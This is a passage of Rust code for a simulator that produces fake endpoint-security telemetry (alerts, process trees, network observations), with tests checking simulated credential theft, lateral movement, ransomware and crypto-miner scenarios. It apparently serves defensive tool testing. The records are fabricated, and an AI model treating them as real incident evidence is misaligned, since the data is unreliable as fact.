        m.put("attack_tactic", s(a.tactic));
        m.put("attack_technique", s(a.technique));
    }
    if let Some(pi) = a.proc {
        let p = &cx.plot.procs[pi];
        m.put("process_guid", s(&cx.guids[pi]));
        m.put("process_pid", json!(p.pid));
        m.put("process_name", s(&p.img.path));
        m.put("process_sha256", s(&p.img.sha));
        m.put("process_md5", s(&p.img.md5));
        m.put("process_effective_reputation", s(p.img.eff));
        m.put("process_reputation", s(p.img.rep));
        m.put("process_cmdline", s(&p.cmd));
        m.put("process_username", s(&p.user));
        let (issuer, publisher) = match p.img.signer {
            Some((i, p)) => (strs(&[i]), strs(&[p])),
            None => (json!([]), json!([])),
        };
        m.put("process_issuer", issuer);
        m.put("process_publisher", publisher);
        match cx.parent(p) {
            Some((guid, img, pid, cmd, user)) => {
                m.put("parent_guid", Value::String(guid));
                m.put("parent_pid", json!(pid));
                m.put("parent_name", s(&img.path));
                m.put("parent_sha256", s(&img.sha));
                m.put("parent_md5", s(&img.md5));
                m.put("parent_effective_reputation", s(img.eff));
                m.put("parent_reputation", s(img.rep));
                m.put(
                    "parent_cmdline",
                    if cmd.is_empty() { Value::Null } else { s(cmd) },
                );
                m.put("parent_username", s(user));
            }
            None => {
                for k in [
                    "parent_guid",
                    "parent_name",
                    "parent_sha256",
                    "parent_md5",
                    "parent_cmdline",
                    "parent_username",
                ] {
                    m.put(k, s(""));
                }
            }
        }
        match a.child {
            Some(ci) => {
                let c = &cx.plot.procs[ci];
                m.put("childproc_guid", s(&cx.guids[ci]));
                m.put("childproc_name", s(&c.img.path));
                m.put("childproc_sha256", s(&c.img.sha));
                m.put("childproc_md5", s(&c.img.md5));
                m.put("childproc_effective_reputation", s(c.img.eff));
                m.put("childproc_username", s(&c.user));
                m.put("childproc_cmdline", s(&c.cmd));
            }
            None => {
                for k in [
                    "childproc_guid",
                    "childproc_name",
                    "childproc_sha256",
                    "childproc_md5",
                    "childproc_effective_reputation",
                    "childproc_username",
                    "childproc_cmdline",
                ] {
                    m.put(k, s(""));
                }
            }
        }
    }
    if a.typ == "CB_ANALYTICS" {
        m.put("ml_classification_final_verdict", s("ANOMALOUS"));
        m.put("ml_classification_global_prevalence", s("LOW"));
        m.put("ml_classification_org_prevalence", s("LOW"));
    }
    for (k, v) in &a.extra {
        m.put(k, v.clone());
    }
    m
}

fn render_proc(cx: &Ctx, i: usize) -> D {
    let p = &cx.plot.procs[i];
    let org = cx.org;
    let d = &org.devices[p.dev];
    let children = cx
        .plot
        .procs
        .iter()
        .filter(|c| matches!(c.parent, Parent::In(x) if x == i))
        .count() as u32;
    let netconn = cx
        .plot
        .obs
        .iter()
        .filter(|o| o.proc == i && matches!(o.ev, Ev::Net { .. }))
        .count() as u32
        + p.net_extra;
    let crossproc = p.crossproc
        + cx.plot
            .obs
            .iter()
            .filter(|o| o.proc == i && matches!(o.ev, Ev::Cross(_)))
            .count() as u32;
    let alert_ids: Vec<Value> = cx.plot.alerts[..cx.n_alerts]
        .iter()
        .filter(|a| a.proc == Some(i))
        .map(|a| s(&a.id))
        .collect();
    let mut events: Vec<&str> = Vec::new();
    let mut enriched: Vec<&str> = Vec::new();
    for (n, ev, en) in [
        (children, "childproc", Some("CREATE_PROCESS")),
        (crossproc, "crossproc", Some("SYSTEM_API_CALL")),
        (p.filemod, "filemod", Some("FILE_CREATE")),
        (p.modload, "modload", None),
        (netconn, "netconn", Some("NETWORK")),
        (p.regmod, "regmod", Some("REGISTRY_ACCESS")),
        (p.scriptload, "scriptload", None),
    ] {
        if n > 0 {
            events.push(ev);
            if let Some(en) = en {
                enriched.push(en);
            }
        }
    }
    let device_ts = p.start + 50 + (p.pid as i64 % 900);
    let mut m = D::new();
    m.put(
        "backend_timestamp",
        Value::String(cx.at(device_ts + 40 * SEC + (p.pid as i64 % 80) * SEC)),
    );
    m.put("childproc_count", json!(children));
    m.put("crossproc_count", json!(crossproc));
    put_device(&mut m, d, &org.policies[d.policy]);
    m.put("device_timestamp", Value::String(cx.at(device_ts)));
    m.put("enriched_event_type", strs(&enriched));
    m.put("event_type", strs(&events));
    m.put("filemod_count", json!(p.filemod));
    m.put("modload_count", json!(p.modload));
    m.put("netconn_count", json!(netconn));
    m.put("org_id", s(&org.key));
    match cx.parent(p) {
        Some((guid, img, pid, _, _)) => {
            m.put("parent_guid", Value::String(guid));
            m.put("parent_hash", json!([img.sha, img.md5]));
            m.put("parent_name", s(&img.path));
            m.put("parent_pid", json!(pid));
        }
        None => {
            m.put("parent_pid", json!(0));
        }
    }
    m.put("process_cmdline", json!([p.cmd]));
    m.put("process_effective_reputation", s(p.img.eff));
    m.put("process_guid", s(&cx.guids[i]));
    m.put("process_hash", json!([p.img.md5, p.img.sha]));
    m.put("process_name", s(&p.img.path));
    m.put("process_pid", json!([p.pid]));
    m.put("process_reputation", s(p.img.rep));
    m.put("process_sha256", s(&p.img.sha));
    m.put("process_start_time", Value::String(iso(cx.base + p.start)));
    m.put("process_username", json!([p.user]));
    m.put("regmod_count", json!(p.regmod));
    m.put("scriptload_count", json!(p.scriptload));
    m.put("ttp", strs(&p.ttp));
    if !alert_ids.is_empty() {
        m.put("alert_id", Value::Array(alert_ids));
    }
    m
}

fn render_obs(cx: &Ctx, o: &Obs) -> D {
    let org = cx.org;
    let p = &cx.plot.procs[o.proc];
    let d = &org.devices[p.dev];
    let alerts: Vec<&Alert> = o
        .alerts
        .iter()
        .filter(|&&a| a < cx.n_alerts)
        .map(|&a| &cx.plot.alerts[a])
        .collect();
    let obs_type = alerts.first().map_or("CONTEXTUAL_ACTIVITY", |a| a.typ);
    let suffix = alerts
        .first()
        .map_or(o.fallback_uuid.as_str(), |a| a.id.as_str());
    let pname = basename(&p.img.path);
    let mut m = D::new();
    m.put(
        "alert_category",
        strs(&[if alerts.is_empty() {
            "OBSERVED"
        } else {
            "THREAT"
        }]),
    );
    m.put(
        "alert_id",
        if alerts.is_empty() {
            Value::Null
        } else {
            Value::Array(alerts.iter().map(|a| s(&a.id)).collect())
        },
    );
    m.put(
        "backend_timestamp",
        Value::String(cx.at(o.t + 45 * SEC + (o.t.rem_euclid(90)) * SEC)),
    );
    put_device(&mut m, d, &org.policies[d.policy]);
    m.put("device_os_version", s(d.os_version));
    m.put("device_timestamp", Value::String(cx.at(o.t)));
    m.put("event_id", s(&o.event_id));
    m.put(
        "observation_id",
        Value::String(format!("{}:{suffix}", o.event_id)),
    );
    m.put("observation_type", s(obs_type));
    m.put("org_id", s(&org.key));
    if let Some((guid, img, pid, _, _)) = cx.parent(p) {
        m.put("parent_guid", Value::String(guid));
        m.put("parent_hash", json!([img.sha]));
        m.put("parent_name", s(&img.path));
        m.put("parent_pid", json!(pid));
    }
    m.put("process_cmdline", json!([p.cmd]));
    m.put("process_effective_reputation", s(p.img.eff));
    m.put("process_guid", s(&cx.guids[o.proc]));
    m.put("process_hash", json!([p.img.md5, p.img.sha]));
    m.put("process_name", s(&p.img.path));
    m.put("process_pid", json!([p.pid]));
    m.put("process_reputation", s(p.img.rep));
    m.put("process_sha256", s(&p.img.sha));
    m.put("process_start_time", Value::String(iso(cx.base + p.start)));
    m.put("process_username", json!([p.user]));
    m.put("ttp", strs(&o.ttp));
    match &o.ev {
        Ev::Net {
            remote,
            port,
            remote_port,
            local_port,
            inbound,
            domain,
            location,
            blocked,
        } => {
            let (remote_s, local_s) = (ip_str(*remote), d.ip_s.clone());
            let dir = if *inbound {
                "accepted a"
            } else {
                "established a"
            };
            let peer = org
                .devices
                .iter()
                .find(|x| x.ip == *remote)
                .map(|x| format!(" ({})", x.name))
                .unwrap_or_default();
            let desc = if *blocked {
                format!("The application {pname} was blocked from connecting to {remote_s}:{port}.")
            } else if *inbound {
                format!(
                    "The application {pname} {dir} TCP/{port} connection from {remote_s}{peer}."
                )
            } else {
                format!("The application {pname} {dir} TCP/{port} connection to {remote_s}{peer}.")
            };
            m.put("enriched_event_type", s("NETWORK"));
            m.put("event_type", s("netconn"));
            m.put("event_description", Value::String(desc.clone()));
            m.put("observation_description", Value::String(desc));
            m.put("event_network_inbound", Value::Bool(*inbound));
            m.put("event_network_local_ipv4", Value::String(local_s));
            m.put("event_network_location", location.map_or(Value::Null, s));
            m.put("event_network_protocol", s("TCP"));
            m.put("event_network_remote_ipv4", Value::String(remote_s));
            m.put("event_network_remote_port", json!(remote_port));
            m.put(
                "netconn_actions",
                strs(&[if *blocked {
                    "ACTION_CONNECTION_CREATE_FAILED"
                } else {
                    "ACTION_CONNECTION_ESTABLISHED"
                }]),
            );
            m.put("netconn_domain", domain.as_deref().map_or(Value::Null, s));
            m.put("netconn_inbound", Value::Bool(*inbound));
            m.put("netconn_ipv4", json!(remote));
            m.put("netconn_local_ipv4", json!(d.ip));
            m.put("netconn_local_port", json!(local_port));
            m.put("netconn_location", location.map_or(Value::Null, s));
            m.put("netconn_port", json!(port));
            m.put("netconn_protocol", s("PROTO_TCP"));
        }
        Ev::Child(c) => {
            let c = &cx.plot.procs[*c];
            let desc = format!(
                "The application {pname} invoked another application ({}).",
                basename(&c.img.path)
            );
            m.put("enriched_event_type", s("CREATE_PROCESS"));
            m.put("event_type", s("childproc"));
            m.put("event_description", Value::String(desc.clone()));
            m.put("observation_description", Value::String(desc));
            m.put("childproc_name", s(&c.img.path));
            m.put("childproc_cmdline", s(&c.cmd));
            m.put("childproc_hash", json!([c.img.md5, c.img.sha]));
        }
        Ev::File(path) => {
            let desc = format!(
                "The application {pname} modified a file ({}).",
                basename(path)
            );
            m.put("enriched_event_type", s("FILE_CREATE"));
            m.put("event_type", s("filemod"));
            m.put("event_description", Value::String(desc.clone()));
            m.put("observation_description", Value::String(desc));
            m.put("filemod_name", s(path));
        }
        Ev::Cross(target) => {
            let desc = format!(
                "The application {pname} opened the process {} with memory read access.",
                basename(target)
            );
            m.put("enriched_event_type", s("SYSTEM_API_CALL"));
            m.put("event_type", s("crossproc"));
            m.put("event_description", Value::String(desc.clone()));
            m.put("observation_description", Value::String(desc));
            m.put("crossproc_name", s(target));
        }
    }
    m
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::{HashMap, HashSet};

    const NOW_S: i64 = 1_775_000_000; // 2026-03-31T23:33:20Z

    fn now() -> Timestamp {
        Timestamp::from_second(NOW_S).unwrap()
    }

    fn ms(v: &Value) -> i64 {
        v.as_str()
            .unwrap()
            .parse::<Timestamp>()
            .unwrap()
            .as_millisecond()
    }

    fn fixture(name: &str) -> Doc {
        let path = format!(
            "{}/../shared/cbc/fixtures/{name}",
            env!("CARGO_MANIFEST_DIR")
        );
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
        serde_json::from_str(&text).unwrap()
    }

    fn story(seed: u64, kind: Kind, org: usize) -> (Generator, Story) {
        let g = Generator::new_at(seed, 3, 0, now());
        let mut rng = StdRng::seed_from_u64(seed ^ 0x5eed);
        let s = g.story_at(&mut rng, kind, org, now().as_millisecond(), false);
        (g, s)
    }

    static NULL: Value = Value::Null;

    /// A field or null (serde_json's `Index` panics on a missing key of a map).
    fn f<'a>(d: &'a Doc, k: &str) -> &'a Value {
        d.get(k).unwrap_or(&NULL)
    }

    fn internal(ip: i64) -> bool {
        (ip >> 24) == 10
    }

    /// The invariants every story must hold, whatever its kind.
    fn check_story(org: &OrgSpec, s: &Story, now_ms: i64) {
        let by_guid: HashMap<&str, &Doc> = s
            .processes
            .iter()
            .map(|p| (p["process_guid"].as_str().unwrap(), p))
            .collect();
        assert_eq!(by_guid.len(), s.processes.len(), "duplicate process_guid");
        let alert_ids: HashSet<&str> = s.alerts.iter().map(|a| a["id"].as_str().unwrap()).collect();
        let dev_ids: HashSet<i64> = org
            .devices
            .iter()
            .map(|d| d["id"].as_i64().unwrap())
            .collect();
        for a in &s.alerts {
            assert_eq!(a["org_key"], json!(org.org_key));
            assert!(dev_ids.contains(&a["device_id"].as_i64().unwrap()));
            let sev = a["severity"].as_i64().unwrap();
            assert!((1..=10).contains(&sev));
            assert!(
                [
                    "CB_ANALYTICS",
                    "WATCHLIST",
                    "DEVICE_CONTROL",
                    "HOST_BASED_FIREWALL"
                ]
                .contains(&a["type"].as_str().unwrap())
            );
            assert_eq!(a["threat_id"].as_str().unwrap().len(), 32);
            assert_eq!(a["workflow"]["status"], "OPEN");
            for k in [
                "backend_timestamp",
                "backend_update_timestamp",
                "detection_timestamp",
                "first_event_timestamp",
                "last_event_timestamp",
            ] {
                let t = a[k].as_str().unwrap();
                assert!(t.ends_with('Z') && t.len() == 24, "{k}: {t}");
                assert!(ms(&a[k]) <= now_ms, "{k} in the future");
            }
            assert!(ms(&a["first_event_timestamp"]) <= ms(&a["detection_timestamp"]));
            assert!(ms(&a["detection_timestamp"]) <= ms(&a["backend_timestamp"]));
            if let Some(g) = a.get("process_guid") {
                let p = by_guid
                    .get(g.as_str().unwrap())
                    .expect("alert process_guid in processes");
                assert_eq!(p["device_id"], a["device_id"]);
                assert_eq!(
                    p["parent_guid"].as_str().unwrap_or(""),
                    a["parent_guid"].as_str().unwrap()
                );
                assert_eq!(p["process_pid"][0], a["process_pid"]);
                assert_eq!(p["process_sha256"], a["process_sha256"]);
                assert!(p["alert_id"].as_array().unwrap().contains(&a["id"]));
                let child = a["childproc_guid"].as_str().unwrap();
                if !child.is_empty() {
                    assert_eq!(by_guid[child]["parent_guid"], a["process_guid"]);
                }
            }
        }
        for p in &s.processes {
            // guid = org-device-pid-0-filetime(start)
            let g = p["process_guid"].as_str().unwrap();
            let parts: Vec<&str> = g.split('-').collect();
            assert_eq!(parts.len(), 5, "{g}");
            assert_eq!(parts[0], org.org_key);
            assert_eq!(
                i64::from_str_radix(parts[1], 16).unwrap(),
                p["device_id"].as_i64().unwrap()
            );
            assert_eq!(
                i64::from_str_radix(parts[2], 16).unwrap(),
                p["process_pid"][0].as_i64().unwrap()
            );
            assert_eq!(parts[3], "00000000");
            let ft = i64::from_str_radix(parts[4], 16).unwrap();
            assert_eq!(
                ft / 10_000 - 11_644_473_600_000,
                ms(&p["process_start_time"])
            );
            assert!(ms(&p["process_start_time"]) <= now_ms);
            assert!(ms(&p["backend_timestamp"]) <= now_ms);
            // Chains terminate at a root.
            let mut cur: &Doc = p;
            let mut seen = HashSet::new();
            while let Some(parent) = cur
                .get("parent_guid")
                .and_then(|v| by_guid.get(v.as_str().unwrap()))
            {
                assert!(
                    seen.insert(cur["process_guid"].as_str().unwrap()),
                    "cycle at {g}"
                );
                assert_eq!(parent["device_id"], cur["device_id"]);
                cur = *parent;
            }
            let root = basename(cur["process_name"].as_str().unwrap());
            assert!(
                ["explorer.exe", "services.exe", "ntoskrnl.exe", "systemd"].contains(&root),
                "root {root}"
            );
            // childproc_count matches the tree.
            let kids = s
                .processes
                .iter()
                .filter(|c| c.get("parent_guid") == Some(&p["process_guid"]))
                .count();
            assert_eq!(p["childproc_count"].as_u64().unwrap() as usize, kids);
            for id in p
                .get("alert_id")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
            {
                assert!(alert_ids.contains(id.as_str().unwrap()));
            }
        }
        for o in &s.observations {
            let p = by_guid
                .get(o["process_guid"].as_str().unwrap())
                .expect("observation process in processes");
            assert_eq!(p["device_id"], o["device_id"]);
            let (event_id, suffix) = o["observation_id"]
                .as_str()
                .unwrap()
                .split_once(':')
                .unwrap();
            assert_eq!(event_id.len(), 32);
            assert_eq!(suffix.len(), 36);
            match o["alert_id"].as_array() {
                Some(ids) => {
                    assert!(!ids.is_empty());
                    assert_eq!(suffix, ids[0].as_str().unwrap());
                    for id in ids {
                        assert!(alert_ids.contains(id.as_str().unwrap()));
                    }
                }
                None => assert!(o["alert_id"].is_null()),
            }
            if o["event_type"] == "netconn" {
                assert_eq!(o["enriched_event_type"], "NETWORK");
                let remote = f(o, "netconn_ipv4").as_i64().unwrap();
                assert_eq!(
                    o["event_network_remote_ipv4"].as_str().unwrap(),
                    ip_str(remote as u32)
                );
                let local = f(o, "netconn_local_ipv4").as_i64().unwrap();
                assert_eq!(
                    o["event_network_local_ipv4"].as_str().unwrap(),
                    ip_str(local as u32)
                );
                assert_eq!(
                    o["device_internal_ip"].as_str().unwrap(),
                    ip_str(local as u32)
                );
                assert_eq!(*f(o, "netconn_inbound"), o["event_network_inbound"]);
                assert_eq!(f(o, "netconn_protocol"), "PROTO_TCP");
            }
            assert!(ms(&o["backend_timestamp"]) <= now_ms);
        }
    }

    #[test]
    fn iso_matches_jiff() {
        for ms in [
            0i64,
            951_782_400_123,
            1_775_000_000_999,
            4_102_444_799_000,
            -86_400_001,
        ] {
            let j = format!("{:.3}", Timestamp::from_millisecond(ms).unwrap());
            assert_eq!(iso(ms), j);
        }
        assert_eq!(b64(b"Man"), "TWFu");
        assert_eq!(b64(b"Ma"), "TWE=");
        assert_eq!(b64(b"M"), "TQ==");
    }

    #[test]
    fn same_seed_same_documents() {
        let run = |seed: u64| {
            let mut g = Generator::new_at(seed, 4, 120, now());
            let orgs: Vec<Value> = g
                .orgs()
                .iter()
                .map(|o| json!([o.org_key, o.name, o.users, o.devices]))
                .collect();
            let backlog: Vec<Value> = g
                .backlog(now())
                .into_iter()
                .map(|(i, s)| json!([i, s.alerts, s.processes, s.observations]))
                .collect();
            let live: Vec<Value> = (0..5)
                .map(|k| {
                    let t = Timestamp::from_second(NOW_S + 60 * k).unwrap();
                    let (i, s) = g.next_story(t).unwrap();
                    json!([i, s.alerts, s.processes, s.observations])
                })
                .collect();
            serde_json::to_string(&json!([orgs, backlog, live])).unwrap()
        };
        let a = run(42);
        assert_eq!(a, run(42));
        assert_ne!(a, run(43));
        // backlog() is repeatable on the same generator.
        let mut g = Generator::new_at(5, 2, 30, now());
        let first: Vec<Value> = g
            .backlog(now())
            .into_iter()
            .map(|(_, s)| json!(s.alerts))
            .collect();
        let second: Vec<Value> = g
            .backlog(now())
            .into_iter()
            .map(|(_, s)| json!(s.alerts))
            .collect();
        assert_eq!(first, second);
    }

    #[test]
    fn orgs_are_plausible_and_device_ids_unique() {
        let g = Generator::new_at(9, 20, 0, now());
        let orgs = g.orgs();
        assert_eq!(orgs.len(), 20);
        assert_eq!(Generator::new_at(9, 0, 0, now()).orgs().len(), 1);
        assert_eq!(Generator::new_at(9, 99, 0, now()).orgs().len(), 20);
        let fixture_keys: Vec<String> = fixture("device_get.json").keys().cloned().collect();
        let mut ids = HashSet::new();
        let mut keys = HashSet::new();
        let mut japanese = 0;
        for o in &orgs {
            assert_eq!(o.org_key.len(), 8);
            assert!(
                o.org_key
                    .chars()
                    .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit())
            );
            assert!(keys.insert(o.org_key.clone()));
            assert!((2..=4).contains(&o.policies.len()), "{}", o.policies.len());
            assert!((5..=12).contains(&o.users.len()), "{}", o.users.len());
            assert!(o.users.iter().all(|u| u.contains('\\')));
            assert!((8..=40).contains(&o.devices.len()));
            let mut ips = HashSet::new();
            let subnet: String = {
                let ip = o.devices[0]["last_internal_ip_address"].as_str().unwrap();
                ip[..ip.rfind('.').unwrap()].to_string()
            };
            assert!(subnet.starts_with("10."));
            for d in &o.devices {
                for k in &fixture_keys {
                    assert!(d.contains_key(k), "device doc lacks {k}");
                }
                assert!(ids.insert(d["id"].as_i64().unwrap()), "duplicate device id");
                let ip = d["last_internal_ip_address"].as_str().unwrap();
                assert!(ip.starts_with(&format!("{subnet}.")));
                assert!(ips.insert(ip.to_string()));
                assert_eq!(d["status"], "REGISTERED");
                assert_eq!(d["quarantined"], false);
                assert_eq!(d["organization_name"], json!(o.name));
                assert!(o.policies.iter().any(|p| json!(p.id) == d["policy_id"] && json!(p.name) == d["policy_name"]));
                assert!(NOW_S * 1000 - ms(&d["last_contact_time"]) < 15 * MIN);
                if d.values()
                    .any(|v| v.as_str().is_some_and(|s| !s.is_ascii()))
                {
                    japanese += 1;
                }
            }
            let windows = o.devices.iter().filter(|d| d["os"] == "WINDOWS").count();
            assert!(windows >= 5, "{windows} Windows devices");
        }
        assert!(japanese > 0, "no Japanese text in any device");
        let names: HashSet<&str> = orgs.iter().map(|o| o.name.as_str()).collect();
        assert!(names.contains("Tanaka Logistics") && names.contains("Northwind Health"));
    }

    #[test]
    fn alerts_processes_observations_have_the_fixture_shapes() {
        let cb = fixture("alert_v7_cb_analytics.json");
        let wl = fixture("alert_v7_watchlist.json");
        let proc_fixture = fixture("process_search_job_results.json");
        let proc_keys: Vec<&String> = proc_fixture["results"][0]
            .as_object()
            .unwrap()
            .keys()
            .collect();
        let obs_fixture = fixture("observations_detail_job_results.json");
        let obs_keys: Vec<&String> = obs_fixture["results"][0]
            .as_object()
            .unwrap()
            .keys()
            .collect();
        // Fixture-only fields a simulator has no use for.
        let skip = [
            "device_group_id",
            "enriched",
            "ingress_time",
            "legacy",
            "document_guid",
            "device_installed_by",
            "event_report_code",
            "event_threat_score",
            "process_cmdline_length",
            "process_effective_reputation_source",
            "parent_effective_reputation",
            "parent_effective_reputation_source",
            "parent_reputation",
            "device_location",
            "device_target_priority",
            "approximate_unaggregated",
        ];
        let mut seen_types = HashSet::new();
        for kind in [
            Kind::CredentialTheft,
            Kind::Ransomware,
            Kind::Miner,
            Kind::FalsePositive,
            Kind::Firewall,
            Kind::DeviceControl,
        ] {
            for seed in 0..6 {
                let (_, s) = story(seed, kind, 1);
                for a in &s.alerts {
                    let t = a["type"].as_str().unwrap();
                    seen_types.insert(t.to_string());
                    let want: Vec<&String> = match t {
                        "CB_ANALYTICS" => cb.keys().collect(),
                        "WATCHLIST" => wl.keys().collect(),
                        _ => cb
                            .keys()
                            .filter(|k| {
                                !k.starts_with("process_")
                                    && !k.starts_with("parent_")
                                    && !k.starts_with("childproc_")
                                    && *k != "ttps"
                                    && *k != "attack_tactic"
                            })
                            .collect(),
                    };
                    for k in want {
                        assert!(a.contains_key(k), "{t} alert lacks {k}");
                    }
                    if t == "DEVICE_CONTROL" {
                        for k in [
                            "vendor_name",
                            "vendor_id",
                            "product_name",
                            "product_id",
                            "serial_number",
                            "external_device_friendly_name",
                        ] {
                            assert!(a.contains_key(k));
                        }
                    }
                    if t == "HOST_BASED_FIREWALL" {
                        assert!(
                            a["netconn_remote_ip"].is_string() && a["netconn_remote_port"].is_u64()
                        );
                    }
                    let uuid = a["id"].as_str().unwrap();
                    assert!(uuid::Uuid::parse_str(uuid).is_ok());
                }
                for p in &s.processes {
                    for k in &proc_keys {
                        // Kernel-started roots (System, systemd) have no parent.
                        let orphan = k.starts_with("parent_")
                            && k.as_str() != "parent_pid"
                            && !p.contains_key("parent_guid");
                        if !skip.contains(&k.as_str()) && !orphan {
                            assert!(p.contains_key(*k), "process lacks {k}");
                        }
                    }
                    for k in ["process_sha256", "process_start_time", "process_username"] {
                        assert!(p.contains_key(k));
                    }
                }
                for o in s
                    .observations
                    .iter()
                    .filter(|o| o["event_type"] == "netconn")
                {
                    for k in &obs_keys {
                        let orphan = k.starts_with("parent_") && o["process_pid"][0] == 4;
                        if !skip.contains(&k.as_str()) && !orphan {
                            assert!(o.contains_key(*k), "observation lacks {k}");
                        }
                    }
                }
            }
        }
        assert_eq!(seen_types.len(), 4, "{seen_types:?}");
    }

    #[test]
    fn every_story_kind_is_consistent() {
        for seed in 0..25 {
            for kind in [
                Kind::CredentialTheft,
                Kind::Ransomware,
                Kind::Miner,
                Kind::FalsePositive,
                Kind::Firewall,
                Kind::DeviceControl,
            ] {
                for org in 0..3 {
                    let (g, s) = story(seed, kind, org);
                    assert!(!s.alerts.is_empty());
                    check_story(&g.orgs()[org], &s, now().as_millisecond());
                }
            }
        }
    }

    #[test]
    fn credential_theft_moves_laterally_with_evidence_on_both_ends() {
        for seed in 0..40 {
            let (g, s) = story(seed, Kind::CredentialTheft, (seed % 3) as usize);
            let first = &s.alerts[0];
            let src = first["device_id"].as_i64().unwrap();
            assert!(
                first["ttps"]
                    .as_array()
                    .unwrap()
                    .contains(&json!("MITRE_T1003_001_LSASS_MEMORY"))
            );
            let lateral_ports = [445, 135, 3389, 5985];
            let inbound: Vec<&Doc> = s
                .observations
                .iter()
                .filter(|o| {
                    f(o, "netconn_inbound") == true
                        && lateral_ports.contains(&f(o, "netconn_port").as_i64().unwrap())
                })
                .collect();
            let reached: HashSet<i64> = inbound
                .iter()
                .map(|o| o["device_id"].as_i64().unwrap())
                .collect();
            assert!(
                reached.len() >= 2 && !reached.contains(&src),
                "seed {seed}: reached {reached:?}"
            );
            let src_ip =
                s.processes.iter().find(|p| p["device_id"] == src).unwrap()["device_internal_ip"]
                    .clone();
            for o in &inbound {
                assert_eq!(o["event_network_remote_ipv4"], src_ip);
                // The matching outbound connection on the first host.
                let out = s.observations.iter().find(|x| {
                    x["device_id"] == src
                        && f(x, "netconn_inbound") == false
                        && f(x, "netconn_port") == f(o, "netconn_port")
                        && f(x, "netconn_ipv4") == f(o, "netconn_local_ipv4")
                });
                assert!(out.is_some(), "seed {seed}: no outbound side for {o:?}");
            }
            // The tool's hash runs on the first host and on the reached ones, as the same account.
            let tool_sha = s
                .processes
                .iter()
                .find(|p| p["device_id"] == src && p["process_reputation"] == KNOWN_MALWARE)
                .unwrap()["process_sha256"]
                .clone();
            let tool_hosts: HashSet<i64> = s
                .processes
                .iter()
                .filter(|p| p["process_sha256"] == tool_sha)
                .map(|p| p["device_id"].as_i64().unwrap())
                .collect();
            assert!(tool_hosts.is_superset(&reached), "seed {seed}");
            let org = &g.orgs()[(seed % 3) as usize];
            let admin = org.users.iter().find(|u| u.contains("\\adm.")).unwrap();
            for d in &reached {
                assert!(
                    s.processes
                        .iter()
                        .any(|p| p["device_id"] == *d && p["process_username"][0] == json!(admin))
                );
            }
            let alerted: HashSet<i64> = s
                .alerts
                .iter()
                .map(|a| a["device_id"].as_i64().unwrap())
                .collect();
            assert!(
                alerted.len() >= 2,
                "seed {seed}: alerts only on {alerted:?}"
            );
            assert!(alerted.iter().all(|d| *d == src || reached.contains(d)));
        }
    }

    #[test]
    fn ransomware_stays_on_one_host() {
        let mut japanese_doc = false;
        for seed in 0..40 {
            let (_, s) = story(seed, Kind::Ransomware, (seed % 2) as usize);
            assert!((2..=3).contains(&s.alerts.len()));
            assert_eq!(
                s.alerts.iter().filter(|a| a["type"] == "WATCHLIST").count(),
                1
            );
            assert!(
                s.alerts
                    .iter()
                    .filter(|a| a["type"] == "CB_ANALYTICS")
                    .all(|a| (8..=10).contains(&a["severity"].as_i64().unwrap()))
            );
            let dev = &s.alerts[0]["device_id"];
            assert!(s.alerts.iter().all(|a| &a["device_id"] == dev));
            assert!(s.processes.iter().all(|p| &p["device_id"] == dev));
            assert!(
                s.alerts
                    .iter()
                    .any(|a| a["type"] == "CB_ANALYTICS" && a["severity"].as_i64().unwrap() >= 8)
            );
            for o in s
                .observations
                .iter()
                .filter(|o| o["event_type"] == "netconn")
            {
                assert!(
                    !internal(f(o, "netconn_ipv4").as_i64().unwrap()),
                    "internal spread in seed {seed}"
                );
                assert_eq!(f(o, "netconn_inbound"), false);
                assert_eq!(f(o, "netconn_port"), 443);
            }
            let names: Vec<&str> = s
                .processes
                .iter()
                .map(|p| basename(p["process_name"].as_str().unwrap()))
                .collect();
            for n in ["winword.exe", "cmd.exe", "powershell.exe", "vssadmin.exe"] {
                assert!(names.contains(&n), "{n} missing");
            }
            let ps = s
                .processes
                .iter()
                .find(|p| {
                    p["process_name"]
                        .as_str()
                        .unwrap()
                        .ends_with("powershell.exe")
                })
                .unwrap();
            assert!(ps["process_cmdline"][0].as_str().unwrap().contains("-enc "));
            assert!(ps["childproc_count"].as_u64().unwrap() >= 1);
            let encryptor = s
                .processes
                .iter()
                .find(|p| {
                    p["process_name"]
                        .as_str()
                        .unwrap()
                        .contains(r"\appdata\roaming\")
                })
                .unwrap();
            assert!(
                encryptor["ttp"]
                    .as_array()
                    .unwrap()
                    .contains(&json!("MITRE_T1486_DATA_ENCRYPTED_FOR_IMPACT"))
            );
            japanese_doc |= s.processes.iter().any(|p| {
                p["process_cmdline"][0].as_str().unwrap().contains(".docm")
                    && !p["process_cmdline"][0].as_str().unwrap().is_ascii()
            });
        }
        assert!(japanese_doc, "no Japanese macro document name");
    }

    #[test]
    fn miner_and_false_positive_severities() {
        for seed in 0..30 {
            let (g, s) = story(seed, Kind::Miner, 0);
            let cb = s
                .alerts
                .iter()
                .find(|a| a["type"] == "CB_ANALYTICS")
                .unwrap();
            assert!((5..=7).contains(&cb["severity"].as_i64().unwrap()));
            assert!(
                cb["ttps"]
                    .as_array()
                    .unwrap()
                    .contains(&json!("MITRE_T1496_RESOURCE_HIJACKING"))
            );
            let pool = s
                .observations
                .iter()
                .find(|o| [3333, 4444].contains(&f(o, "netconn_port").as_i64().unwrap_or(0)))
                .unwrap();
            assert!(!internal(pool["netconn_ipv4"].as_i64().unwrap()));
            let dev = g.orgs()[0]
                .devices
                .iter()
                .find(|d| d["id"] == cb["device_id"])
                .unwrap()
                .clone();
            assert!(dev["os"] == "LINUX" || dev["os_version"].as_str().unwrap().contains("Server"));

            let (_, s) = story(seed, Kind::FalsePositive, 0);
            assert_eq!(s.alerts.len(), 1);
            assert!((2..=4).contains(&s.alerts[0]["severity"].as_i64().unwrap()));
        }
    }

    #[test]
    fn backlog_has_the_exact_alert_count() {
        for (orgs, n) in [(3, 0), (3, 1), (1, 2), (3, 7), (3, 40), (20, 40), (5, 1000)] {
            let mut g = Generator::new_at(11, orgs, n, now());
            let b = g.backlog(now());
            assert_eq!(
                b.iter().map(|(_, s)| s.alerts.len()).sum::<usize>(),
                n,
                "orgs {orgs} backlog {n}"
            );
            let specs = g.orgs();
            for (i, s) in &b {
                check_story(&specs[*i], s, now().as_millisecond());
            }
        }
    }

    /// A timing sanity run, not a timed assertion. 100 000 alerts in release builds
